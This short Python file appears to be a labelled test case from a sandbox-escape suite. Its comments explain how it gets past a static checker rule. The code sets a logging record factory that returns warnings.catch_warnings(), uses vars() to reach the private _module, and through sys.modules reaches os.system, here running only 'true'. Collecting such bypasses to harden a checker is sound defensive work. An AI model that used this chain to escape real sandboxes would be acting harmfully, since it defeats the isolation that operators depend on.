# family: open_classes
# reaches: process
# layer: static
# static: missed
# SBX402 admits vars(x) when x is an object of an open class; the review says what
# logging.makeLogRecord returns is a LogRecord. Route: makeLogRecord builds its record with the
# record factory, which the program sets to one returning a warnings.catch_warnings(); vars() of
# it hands out its private _module (the warnings module), whose sys.modules holds os.
import logging
import warnings


def context_record(*args, **kwargs):
    return warnings.catch_warnings()


logging.setLogRecordFactory(context_record)
record = logging.makeLogRecord({"msg": "started"})
fields = vars(record)
print(sorted(fields))
host = fields["_module"]
host.sys.modules["os"].system("true")
